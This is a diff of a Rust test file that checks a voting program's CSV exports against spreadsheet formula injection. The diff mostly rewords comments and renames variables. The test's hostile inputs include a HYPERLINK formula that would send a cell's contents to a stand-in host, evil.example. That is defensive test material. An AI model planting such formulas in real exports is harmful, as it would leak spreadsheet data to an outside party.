@@ -1,4 +1,5 @@
-//! Every CSV that the program gives out, with hostile texts wherever a text can be: no spreadsheet finds a formula, and we read our own files back.
+//! All CSV tables of the program, with hostile texts in every text field. No spreadsheet finds a
+//! formula, and the program reads its own files back.
 
 use std::{fs, path::Path};
 
@@ -15,7 +16,8 @@ use crate::{
 
 const MARK: &str = "\u{feff}";
 
-/// What spreadsheets run, and what becomes it when a file is split at another separator or read without its quotation marks.
+/// Texts that spreadsheets run as formulas. Some become formulas when a file is split at another
+/// separator, or read without its quotation marks.
 const HOSTILE: [&str; 8] = [
     "=HYPERLINK(\"http://evil.example/?\"&B2,\"x\")",
     "+1+1",
@@ -30,8 +32,7 @@ const HOSTILE: [&str; 8] = [
 #[test]
 fn no_table_has_a_formula_and_every_text_is_read_back() {
     let site = Site::start();
-    let entry =
-        |(place, title): (usize, &&str)| json!({"id": format!("a{place}"), "category": "a", "title": title});
+    let entry = |(number, title): (usize, &&str)| json!({"id": format!("a{number}"), "category": "a", "title": title});
     let more = json!({
         "category": [{"id": "a", "title": HOSTILE[0]}],
         "entry": HOSTILE.iter().enumerate().map(entry).collect::<Vec<_>>(),
@@ -39,8 +40,8 @@ fn no_table_has_a_formula_and_every_text_is_read_back() {
     });
     site.create_open("prize", OPENED, &more);
     let passes = passes_are_read_back(&site);
-    for (place, pass) in passes.iter().enumerate().take(4) {
-        assert_eq!(site.cast("prize", pass, &ballot(&[&*format!("a{place}")])).status, 201);
+    for (number, pass) in passes.iter().enumerate().take(4) {
+        assert_eq!(site.cast("prize", pass, &ballot(&[&*format!("a{number}")])).status, 201);
     }
     let withdrawn = json!({"entry": "a7", "reason": HOSTILE[5]});
     site.staff.post("/v1/contests/prize/withdrawals", "withdraw", &withdrawn).unwrap();
@@ -72,7 +73,8 @@ fn no_table_has_a_formula_and_every_text_is_read_back() {
     excel_gets_a_mark(&site, log);
 }
 
-/// Mints for hostile subjects, and for the file of passes again: each line is the same voter.
+/// Mints passes for hostile subjects, and again from the file of passes. Each line must be the same
+/// voter.
 fn passes_are_read_back(site: &Site) -> Vec<String> {
     let folder = site.folder.path();
     let voters = folder.join("voters.txt");
@@ -87,10 +89,10 @@ fn passes_are_read_back(site: &Site) -> Vec<String> {
     has_no_formula(&first);
     let rows = table_of(&first, b',');
     assert_eq!(rows.len(), 1 + HOSTILE.len());
-    let column = |rows: &[StringRecord], place: usize| -> Vec<String> {
-        rows.iter().skip(1).map(|row| row[place].to_owned()).collect()
+    let column = |rows: &[StringRecord], index: usize| -> Vec<String> {
+        rows.iter().skip(1).map(|row| row[index].to_owned()).collect()
     };
-    // The column of subjects as it is in the file, pasted into a list.
+    // The column of subjects as it is in the file, copied into a list.
     let guarded = folder.join("guarded.txt");
     fs::write(&guarded, column(&rows, 0).join("\n")).unwrap();
     let again = mint(&guarded, "{pass}");
@@ -115,15 +117,15 @@ fn excel_gets_a_mark(site: &Site, log: &str) {
     let tally = acclaim().args(["tally", log, "--format", "csv", "--excel"]).output().unwrap();
     assert!(succeeded(&tally).starts_with(&format!("{MARK}category,")));
     for wrong in [&["tally", log, "--excel"][..], &["tally", log, "--format", "html", "--excel"]] {
-        let said = acclaim().args(wrong).output().unwrap();
-        assert_eq!(said.status.code(), Some(2));
-        assert!(String::from_utf8(said.stderr).unwrap().contains("--excel is for --format csv"));
+        let output = acclaim().args(wrong).output().unwrap();
+        assert_eq!(output.status.code(), Some(2));
+        assert!(String::from_utf8(output.stderr).unwrap().contains("--excel is for --format csv"));
     }
     let refused = site.send("GET", "/v1/contests/prize/tally?excel=true", &[], b"");
     refused.problem(400, "invalid-parameter");
 }
 
-/// What a command on the server prints.
+/// Returns the output of a command on the server.
 fn run(site: &Site, args: &[&str]) -> String {
     let url = format!("http://{}", site.address);
     let output = acclaim().args(args).args(["--url", &url]).env("ACCLAIM_KEY", &site.key).output().unwrap();
@@ -148,19 +150,19 @@ fn table_of(text: &str, separator: u8) -> Vec<StringRecord> {
     reader.records().map(Result::unwrap).collect()
 }
 
-/// Whatever the spreadsheet takes for the separator.
+/// Checks that no cell is a formula, for every separator that a spreadsheet may use.
 fn has_no_formula(text: &str) {
     for separator in *b",;\t" {
         for cell in table_of(text, separator).iter().flatten() {
-            let shown = cell.trim_start_matches(|c: char| c.is_whitespace() || c == '"');
-            let is_number = shown.parse::<f64>().is_ok();
+            let content = cell.trim_start_matches(|c: char| c.is_whitespace() || c == '"');
+            let is_number = content.parse::<f64>().is_ok();
             let signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
-            assert!(is_number || shown == "-" || !shown.starts_with(signs), "{cell:?} in {text}");
+            assert!(is_number || content == "-" || !content.starts_with(signs), "{cell:?} in {text}");
         }
     }
 }
 
-/// A tally of a contest that is being voted in, read at once after each ballot.
+/// A tally during the voting, read immediately after each ballot, has the ballot.
 #[test]
 fn a_tally_read_after_a_ballot_has_it_embedded() {
     has_each_ballot_at_once(&Site::start(), 40);
